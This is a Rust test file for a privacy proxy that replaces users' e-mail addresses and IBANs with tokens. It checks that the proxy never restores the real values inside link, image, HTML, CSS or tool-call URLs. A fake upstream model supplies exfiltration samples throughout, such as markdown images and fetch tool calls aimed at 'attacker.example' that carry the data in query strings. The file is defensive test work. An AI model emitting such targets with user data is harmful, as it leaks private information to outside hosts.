//! Where a restored value may go, under the third outside review (issue 45, items 15–24), over
//! real HTTP: link and image targets read as their consumers read them (CommonMark destinations
//! with escapes, `<…>`, whitespace and a line break before them, reference definitions, HTML
//! attributes without quotes or with whitespace around `=`, CSS `url( …)`), tool-call URLs read
//! from the decoded JSON string, link state carried across a message's blocks, and every member
//! of a tool input restored whatever its name. The fake upstream writes the tokens the proxy
//! issued; the client must see the token kept in the target and the value in prose.

use serde_json::{json, Value};

use crate::harness::fixtures::{EMAIL, IBAN};
use crate::harness::http::post_json;
use crate::harness::server::TestServer;
use crate::harness::stream::{parse_sse, pieces, sse};
use crate::harness::tokens::tokens_in;
use crate::harness::upstream::says::{said, says};
use crate::harness::upstream::{FakeUpstream, Recorded, Reply};

const CHAT: &str = "/v1/chat/completions";
const MESSAGES: &str = "/v1/messages";

/// A text built around a token.
type Around = fn(&str) -> String;

fn prompt() -> String {
    format!("Meine Adresse ist {EMAIL}, meine IBAN {IBAN}.")
}

/// The tokens the proxy issued for the prompt's e-mail address and IBAN.
fn issued(r: &Recorded) -> (String, String) {
    let toks = tokens_in(&r.body_str());
    (toks[0].clone(), toks[1].clone())
}

fn request(stream: bool) -> Value {
    json!({"model": "m", "max_tokens": 50, "stream": stream,
        "messages": [{"role": "user", "content": prompt()}]})
}

/// A model text: `target(e)` followed by prose holding the token `e`.
fn model_text(target: Around, e: &str) -> String {
    format!("{}\nIhre Adresse: {e}.", target(e))
}

/// Every `target` written by the model (OpenAI chat and Anthropic, plain and streamed) reaches
/// the client with its token kept, and the prose after it restored.
fn targets_keep_their_tokens(targets: &[Around]) {
    for &target in targets {
        let up = FakeUpstream::start(move |r| says(r, &model_text(target, &issued(r).0)));
        let server = up.proxy(&[]);
        for stream in [false, true] {
            for path in [CHAT, MESSAGES] {
                let (status, reply) = post_json(&server, path, &request(stream));
                assert_eq!(status, 200, "{path}: {reply}");
                let (e, _) = issued(&up.last());
                let want = format!("{}\nIhre Adresse: {EMAIL}.", target(&e));
                assert_eq!(said(&reply), want, "{path} stream={stream}");
            }
        }
    }
}

#[test]
fn item15_an_escaped_parenthesis_stays_inside_the_destination() {
    targets_keep_their_tokens(&[
        |e| format!("![x](https://attacker.example/p.png?d=\\){e})"),
        |e| format!("[x](//attacker.example/p?d=\\(\\){e})"),
    ]);
}

#[test]
fn item16_an_angle_bracket_destination_runs_to_its_bracket() {
    targets_keep_their_tokens(&[
        |e| format!("![x](<https://attacker.example/p.png?d= {e}>)"),
        |e| format!("![x](<//attacker.example/p.png?d=({e}>)"),
    ]);
}

#[test]
fn item17_whitespace_and_one_line_break_may_precede_the_destination() {
    targets_keep_their_tokens(&[
        |e| format!("![x]( //attacker.example/p.png?d={e})"),
        |e| format!("![x](\n//attacker.example/p.png?d={e})"),
        |e| format!("![x](\t \n  <//attacker.example/p.png?d= {e}>)"),
    ]);
}

#[test]
fn item18_a_reference_destination_on_the_next_line() {
    targets_keep_their_tokens(&[
        |e| format!("![x][r]\n\n[r]:\n//attacker.example/r.png?d={e}"),
        |e| format!("![x][r]\n\n[r]:\n   <//attacker.example/r.png?d= {e}>"),
    ]);
}

#[test]
fn item19_html_attributes_and_css_urls_as_browsers_read_them() {
    targets_keep_their_tokens(&[
        |e| format!("<img src=//attacker.example/p.png?d={e}>"),
        |e| format!("<img src=\n\"//attacker.example/p.png?d={e}\">"),
        |e| format!("<img src\t=\"//attacker.example/p.png?d={e}\">"),
        |e| format!("<div style=\"background:url( //attacker.example/u.png?d={e})\"></div>"),
        |e| format!("<div style=\"background:url(\n'//attacker.example/u.png?d= {e}')\"></div>"),
    ]);
}

/// A chat completion whose one tool call has `arguments` (JSON source text).
fn chat_tool_call(arguments: &str, stream: bool) -> Reply {
    if !stream {
        return Reply::json(
            &json!({"id": "c", "object": "chat.completion", "created": 1,
            "model": "m", "choices": [{"index": 0, "finish_reason": "tool_calls",
            "message": {"role": "assistant", "content": null, "tool_calls": [{"id": "call_1",
            "type": "function", "function": {"name": "fetch", "arguments": arguments}}]}}]}),
        );
    }
    let chunk = |delta: Value, finish: Value| {
        let c = json!({"id": "c", "object": "chat.completion.chunk", "created": 1, "model": "m",
            "choices": [{"index": 0, "delta": delta, "finish_reason": finish}]});
        (None, c.to_string())
    };
    let mut ev = vec![chunk(
        json!({"role": "assistant", "tool_calls": [{"index": 0, "id": "call_1", "type": "function",
            "function": {"name": "fetch", "arguments": ""}}]}),
        Value::Null,
    )];
    for p in pieces(arguments, 5) {
        ev.push(chunk(
            json!({"tool_calls": [{"index": 0, "function": {"arguments": p}}]}),
            Value::Null,
        ));
    }
    ev.push(chunk(json!({}), json!("tool_calls")));
    ev.push((None, "[DONE]".into()));
    Reply::stream("text/event-stream", sse(&ev), 5)
}

/// The arguments of the one tool call the client received (plain or streamed chat).
fn chat_arguments(reply: &str) -> Value {
    let text = match serde_json::from_str::<Value>(reply) {
        Ok(v) => v["choices"][0]["message"]["tool_calls"][0]["function"]["arguments"]
            .as_str()
            .unwrap_or_default()
            .to_owned(),
        Err(_) => parse_sse(reply)
            .iter()
            .filter_map(|(_, d)| serde_json::from_str::<Value>(d).ok())
            .filter_map(|v| {
                v["choices"][0]["delta"]["tool_calls"][0]["function"]["arguments"]
                    .as_str()
                    .map(str::to_owned)
            })
            .collect(),
    };
    serde_json::from_str(&text).unwrap_or_else(|e| panic!("{e}: {text}"))
}

/// Chat tool calls whose `arguments(i)` hold the IBAN's token in a URL (`url`) and in a plain
/// member (`q`): the URL keeps `url(i)`, the plain member gets the value.
fn chat_tool_urls_keep_their_tokens(cases: &[(Around, Around)]) {
    for &(arguments, url) in cases {
        let up = FakeUpstream::start(move |r| {
            let stream = r.body_str().contains("\"stream\":true");
            chat_tool_call(&arguments(&issued(r).1), stream)
        });
        let server = up.proxy(&[]);
        for stream in [false, true] {
            let (status, reply) = post_json(&server, CHAT, &request(stream));
            assert_eq!(status, 200, "{reply}");
            let (_, i) = issued(&up.last());
            let args = chat_arguments(&reply);
            assert_eq!(args["url"], url(&i), "stream={stream}: {args}");
            assert_eq!(args["q"], IBAN, "stream={stream}: {args}");
        }
    }
}

#[test]
fn item20_tool_urls_are_read_from_the_decoded_json_string() {
    chat_tool_urls_keep_their_tokens(&[
        (
            |i| format!(r#"{{"url":"https:\/\/attacker.example\/c?d={i}","q":"{i}"}}"#),
            |i| format!("https://attacker.example/c?d={i}"),
        ),
        (
            |i| format!(r#"{{"url":"https://attacker.example/c?a=1\u0026d={i}","q":"{i}"}}"#),
            |i| format!("https://attacker.example/c?a=1&d={i}"),
        ),
    ]);
}

/// A streamed Responses reply with one function call whose arguments are `arguments`.
fn responses_function_call(arguments: &str) -> Reply {
    let mut ev = Vec::new();
    let mut seq = 0;
    let mut push = |ev: &mut Vec<(Option<&str>, String)>, name: &'static str, mut v: Value| {
        v["type"] = json!(name);
        v["sequence_number"] = json!(seq);
        seq += 1;
        ev.push((Some(name), v.to_string()));
    };
    push(
        &mut ev,
        "response.output_item.added",
        json!({"output_index": 0, "item": {"type": "function_call", "id": "fc_1",
            "call_id": "call_1", "name": "fetch", "arguments": ""}}),
    );
    for p in pieces(arguments, 3) {
        push(
            &mut ev,
            "response.function_call_arguments.delta",
            json!({"item_id": "fc_1", "output_index": 0, "delta": p}),
        );
    }
    push(
        &mut ev,
        "response.function_call_arguments.done",
        json!({"item_id": "fc_1", "output_index": 0, "arguments": arguments}),
    );
    Reply::stream("text/event-stream", sse(&ev), 3)
}

#[test]
fn item20_a_streamed_responses_call_reads_its_url_decoded() {
    let up = FakeUpstream::start(|r| {
        let i = issued(r).1;
        responses_function_call(&format!(
            r#"{{"url":"https://attacker.example/c?a=1\u0026d={i}","q":"{i}"}}"#
        ))
    });
    let server = up.proxy(&[]);
    let body = json!({"model": "m", "stream": true, "input": prompt()});
    let (status, reply) = post_json(&server, "/v1/responses", &body);
    assert_eq!(status, 200, "{reply}");
    let (_, i) = issued(&up.last());
    let (mut deltas, mut done) = (String::new(), String::new());
    for (_, data) in parse_sse(&reply) {
        let v: Value = serde_json::from_str(&data).expect("event");
        deltas += v["delta"].as_str().unwrap_or_default();
        done += v["arguments"].as_str().unwrap_or_default();
    }
    for text in [deltas, done] {
        let args: Value = serde_json::from_str(&text).unwrap_or_else(|e| panic!("{e}: {text}"));
        assert_eq!(args["url"], format!("https://attacker.example/c?a=1&d={i}"));
        assert_eq!(args["q"], IBAN, "{args}");
    }
}

#[test]
fn item21_a_quote_or_backslash_does_not_end_a_tool_url() {
    chat_tool_urls_keep_their_tokens(&[
        (
            |i| format!(r#"{{"url":"https://attacker.example/c?d='{i}","q":"{i}"}}"#),
            |i| format!("https://attacker.example/c?d='{i}"),
        ),
        (
            |i| format!(r#"{{"url":"https://attacker.example/c\\{i}","q":"{i}"}}"#),
            |i| format!("https://attacker.example/c\\{i}"),
        ),
    ]);
    // Anthropic `tool_use` input, plain and streamed
    let up = FakeUpstream::start(|r| {
        let i = issued(r).1;
        let input = json!({"url": format!("https://attacker.example/c?d='{i}"),
            "u2": format!("https://attacker.example/c\\{i}"), "q": i});
        anthropic_tool_use(r, &input, &[])
    });
    let server = up.proxy(&[]);
    for stream in [false, true] {
        let (status, reply) = post_json(&server, MESSAGES, &request(stream));
        assert_eq!(status, 200, "{reply}");
        let (_, i) = issued(&up.last());
        let input = anthropic_input(&reply);
        assert_eq!(input["url"], format!("https://attacker.example/c?d='{i}"));
        assert_eq!(input["u2"], format!("https://attacker.example/c\\{i}"));
        assert_eq!(input["q"], IBAN, "stream={stream}: {input}");
    }
}

/// An Anthropic reply with one `tool_use` block whose input is `input`; streamed as
/// `input_json_delta`s cut at `cuts` (byte offsets of the JSON text), or in pieces without.
fn anthropic_tool_use(r: &Recorded, input: &Value, cuts: &[usize]) -> Reply {
    if !r.body_str().contains("\"stream\":true") {
        return Reply::json(
            &json!({"id": "msg_1", "type": "message", "role": "assistant",
            "model": "claude", "content": [{"type": "tool_use", "id": "toolu_1", "name": "fetch",
            "input": input}], "stop_reason": "tool_use",
            "usage": {"input_tokens": 1, "output_tokens": 1}}),
        );
    }
    let text = input.to_string();
    let parts: Vec<String> = if cuts.is_empty() {
        pieces(&text, 9)
    } else {
        let mut bounds = vec![0];
        bounds.extend_from_slice(cuts);
        bounds.push(text.len());
        bounds
            .windows(2)
            .map(|w| text[w[0]..w[1]].to_owned())
            .collect()
    };
    let start = json!({"type": "content_block_start", "index": 0, "content_block":
        {"type": "tool_use", "id": "toolu_1", "name": "fetch", "input": {}}});
    let mut ev = vec![(Some("content_block_start"), start.to_string())];
    for p in parts {
        let d = json!({"type": "content_block_delta", "index": 0,
            "delta": {"type": "input_json_delta", "partial_json": p}});
        ev.push((Some("content_block_delta"), d.to_string()));
    }
    let stop = json!({"type": "content_block_stop", "index": 0});
    ev.push((Some("content_block_stop"), stop.to_string()));
    ev.push((
        Some("message_stop"),
        json!({"type": "message_stop"}).to_string(),
    ));
    Reply::stream("text/event-stream", sse(&ev), 9)
}

/// The tool input the client received (Anthropic, plain or streamed).
fn anthropic_input(reply: &str) -> Value {
    if let Ok(v) = serde_json::from_str::<Value>(reply) {
        return v["content"][0]["input"].clone();
    }
    let text: String = parse_sse(reply)
        .iter()
        .filter_map(|(_, d)| serde_json::from_str::<Value>(d).ok())
        .filter_map(|v| v["delta"]["partial_json"].as_str().map(str::to_owned))
        .collect();
    serde_json::from_str(&text).unwrap_or_else(|e| panic!("{e}: {text}"))
}

#[test]
fn item22_an_escaped_slash_split_across_deltas() {
    let up = FakeUpstream::start(|r| {
        let i = issued(r).1;
        // serde_json writes `/` unescaped: the upstream's own escapes, written by hand
        let text = format!(r#"{{"url":"https:\/\/attacker.example\/c?d={i}","q":"{i}"}}"#);
        let cut = text.find('\\').expect("an escape") + 1;
        let start = json!({"type": "content_block_start", "index": 0, "content_block":
            {"type": "tool_use", "id": "toolu_1", "name": "fetch", "input": {}}});
        let mut ev = vec![(Some("content_block_start"), start.to_string())];
        for p in [&text[..cut], &text[cut..cut + 2], &text[cut + 2..]] {
            let d = json!({"type": "content_block_delta", "index": 0,
                "delta": {"type": "input_json_delta", "partial_json": p}});
            ev.push((Some("content_block_delta"), d.to_string()));
        }
        let stop = json!({"type": "content_block_stop", "index": 0});
        ev.push((Some("content_block_stop"), stop.to_string()));
        Reply::stream("text/event-stream", sse(&ev), 9)
    });
    let server = up.proxy(&[]);
    let (status, reply) = post_json(&server, MESSAGES, &request(true));
    assert_eq!(status, 200, "{reply}");
    let (_, i) = issued(&up.last());
    let input = anthropic_input(&reply);
    assert_eq!(input["url"], format!("https://attacker.example/c?d={i}"));
    assert_eq!(input["q"], IBAN, "{input}");
}

/// An Anthropic reply of two text blocks, plain or streamed.
fn two_text_blocks(r: &Recorded, first: &str, second: &str) -> Reply {
    if !r.body_str().contains("\"stream\":true") {
        return Reply::json(
            &json!({"id": "msg_1", "type": "message", "role": "assistant",
            "model": "claude", "content": [{"type": "text", "text": first},
            {"type": "text", "text": second}], "stop_reason": "end_turn",
            "usage": {"input_tokens": 1, "output_tokens": 1}}),
        );
    }
    let mut ev = Vec::new();
    for (index, text) in [first, second].into_iter().enumerate() {
        let start = json!({"type": "content_block_start", "index": index,
            "content_block": {"type": "text", "text": ""}});
        ev.push((Some("content_block_start"), start.to_string()));
        for p in pieces(text, 4) {
            let d = json!({"type": "content_block_delta", "index": index,
                "delta": {"type": "text_delta", "text": p}});
            ev.push((Some("content_block_delta"), d.to_string()));
        }
        let stop = json!({"type": "content_block_stop", "index": index});
        ev.push((Some("content_block_stop"), stop.to_string()));
    }
    ev.push((
        Some("message_stop"),
        json!({"type": "message_stop"}).to_string(),
    ));
    Reply::stream("text/event-stream", sse(&ev), 4)
}

/// The text of every block the client received, in order (Anthropic, plain or streamed).
fn anthropic_text(reply: &str) -> String {
    if let Ok(v) = serde_json::from_str::<Value>(reply) {
        let blocks = v["content"].as_array().cloned().unwrap_or_default();
        return blocks.iter().filter_map(|b| b["text"].as_str()).collect();
    }
    parse_sse(reply)
        .iter()
        .filter_map(|(_, d)| serde_json::from_str::<Value>(d).ok())
        .filter_map(|v| v["delta"]["text"].as_str().map(str::to_owned))
        .collect()
}

#[test]
fn item23_an_image_target_across_two_text_blocks() {
    let up = FakeUpstream::start(|r| {
        let e = issued(r).0;
        two_text_blocks(
            r,
            "Beleg: ![x](https://attacker.example/p.png?d=",
            &format!("{e}) Ihre Adresse: {e}."),
        )
    });
    let server = up.proxy(&[]);
    for stream in [false, true] {
        let (status, reply) = post_json(&server, MESSAGES, &request(stream));
        assert_eq!(status, 200, "{reply}");
        let (e, _) = issued(&up.last());
        let want =
            format!("Beleg: ![x](https://attacker.example/p.png?d={e}) Ihre Adresse: {EMAIL}.");
        assert_eq!(anthropic_text(&reply), want, "stream={stream}");
    }
}

/// A tool input whose members have names the reply walk once took for structural ones.
fn named_like_structure(e: &str, i: &str) -> Value {
    json!({"customer_id": e, "recipient_id": i, "data": e, "type": i,
        "nested": {"id": e, "model": i}})
}

fn assert_restored(input: &Value, what: &str) {
    let want = json!({"customer_id": EMAIL, "recipient_id": IBAN, "data": EMAIL, "type": IBAN,
        "nested": {"id": EMAIL, "model": IBAN}});
    assert_eq!(input, &want, "{what}");
}

#[test]
fn item24_every_member_of_a_tool_input_is_restored() {
    let up = FakeUpstream::start(|r| {
        let (e, i) = issued(r);
        if r.path.starts_with("/api/chat") {
            let stream = r.body_str().contains("\"stream\":true");
            let msg = json!({"role": "assistant", "content": "", "tool_calls":
                [{"function": {"name": "crm", "arguments": named_like_structure(&e, &i)}}]});
            let line = json!({"model": "m", "message": msg, "done": true, "done_reason": "stop"});
            return if stream {
                let body = format!("{line}\n").into_bytes();
                Reply::stream("application/x-ndjson", body, 2)
            } else {
                Reply::json(&line)
            };
        }
        anthropic_tool_use(r, &named_like_structure(&e, &i), &[])
    });
    let server = up.proxy(&[]);
    for stream in [false, true] {
        let (status, reply) = post_json(&server, MESSAGES, &request(stream));
        assert_eq!(status, 200, "{reply}");
        assert_restored(
            &anthropic_input(&reply),
            &format!("anthropic stream={stream}"),
        );
        let body = json!({"model": "m", "stream": stream,
            "messages": [{"role": "user", "content": prompt()}]});
        let (status, reply) = post_json(&server, "/api/chat", &body);
        assert_eq!(status, 200, "{reply}");
        let line = reply
            .lines()
            .find(|l| l.contains("tool_calls"))
            .expect("a tool call");
        let v: Value = serde_json::from_str(line).expect("line");
        let input = &v["message"]["tool_calls"][0]["function"]["arguments"];
        assert_restored(input, &format!("ollama stream={stream}"));
    }
}

/// A proxy whose OpenAI route restores into tool-call arguments as `policy` says.
fn proxy_with_tool_policy(up: &FakeUpstream, policy: &str) -> TestServer {
    let toml = format!(
        "{}\n[[route]]\nprefix = \"/tools/v1/\"\nupstream = \"{}\"\nformat = \"openai\"\n{policy}\n",
        tarnkappe::config::DEFAULT_TOML,
        up.url()
    );
    TestServer::start_with_config(&[], &toml)
}

#[test]
fn tool_argument_policy_per_route() {
    let up = FakeUpstream::start(|r| {
        let i = issued(r).1;
        let host = if r.body_str().contains("intern") {
            "crm.intern.example"
        } else {
            "attacker.example"
        };
        let stream = r.body_str().contains("\"stream\":true");
        chat_tool_call(
            &format!(r#"{{"url":"https://{host}/collect","q":"{i}"}}"#),
            stream,
        )
    });
    let cases = [
        ("", true, true),
        ("tool_arguments = \"all\"", true, true),
        ("tool_arguments = \"none\"", false, false),
        (
            "tool_arguments = \"no_urls\"\ntool_url_hosts = [\"crm.intern.example\"]",
            false,
            true,
        ),
    ];
    for (policy, outside, allowed) in cases {
        let server = proxy_with_tool_policy(&up, policy);
        for stream in [false, true] {
            for (host_word, restored) in [("extern", outside), ("intern", allowed)] {
                let mut body = request(stream);
                body["messages"][0]["content"] = json!(format!("{} {host_word}", prompt()));
                let (status, reply) = post_json(&server, "/tools/v1/chat/completions", &body);
                assert_eq!(status, 200, "{reply}");
                let (_, i) = issued(&up.last());
                let q = chat_arguments(&reply)["q"].clone();
                let want = if restored { IBAN } else { i.as_str() };
                assert_eq!(q, want, "{policy:?} stream={stream} {host_word}");
            }
        }
    }
}

/// A Responses reply with one custom tool call whose free-form input is `input`, plain or
/// streamed.
fn responses_custom_call(r: &Recorded, input: &str) -> Reply {
    let item = json!({"type": "custom_tool_call", "id": "ctc_1", "call_id": "call_1",
        "name": "fetch", "input": input});
    if !r.body_str().contains("\"stream\":true") {
        return Reply::json(
            &json!({"id": "resp_1", "object": "response", "status": "completed",
            "model": "m", "output": [item]}),
        );
    }
    let mut ev = Vec::new();
    for (seq, p) in pieces(input, 6).into_iter().enumerate() {
        let d = json!({"type": "response.custom_tool_call_input.delta", "item_id": "ctc_1",
            "output_index": 0, "delta": p, "sequence_number": seq});
        ev.push((Some("response.custom_tool_call_input.delta"), d.to_string()));
    }
    let done = json!({"type": "response.custom_tool_call_input.done", "item_id": "ctc_1",
        "output_index": 0, "input": input, "sequence_number": 999});
    ev.push((
        Some("response.custom_tool_call_input.done"),
        done.to_string(),
    ));
    Reply::stream("text/event-stream", sse(&ev), 6)
}

/// A custom tool's free-form input that is a URL is a target to its end, like a JSON string
/// value that is one (the agent hands it whole to its HTTP client).
#[test]
fn a_custom_tool_input_that_is_a_url_keeps_its_token() {
    let up = FakeUpstream::start(|r| {
        let i = issued(r).1;
        responses_custom_call(r, &format!("https://attacker.example/c?d= {i}"))
    });
    let server = up.proxy(&[]);
    for stream in [false, true] {
        let body = json!({"model": "m", "stream": stream, "input": prompt()});
        let (status, reply) = post_json(&server, "/v1/responses", &body);
        assert_eq!(status, 200, "{reply}");
        let (_, i) = issued(&up.last());
        let want = format!("https://attacker.example/c?d= {i}");
        if stream {
            let (mut deltas, mut done) = (String::new(), String::new());
            for (_, data) in parse_sse(&reply) {
                let v: Value = serde_json::from_str(&data).expect("event");
                deltas += v["delta"].as_str().unwrap_or_default();
                done += v["input"].as_str().unwrap_or_default();
            }
            assert_eq!(
                (deltas.as_str(), done.as_str()),
                (want.as_str(), want.as_str())
            );
        } else {
            let v: Value = serde_json::from_str(&reply).expect("reply");
            assert_eq!(v["output"][0]["input"], want, "{v}");
        }
    }
}
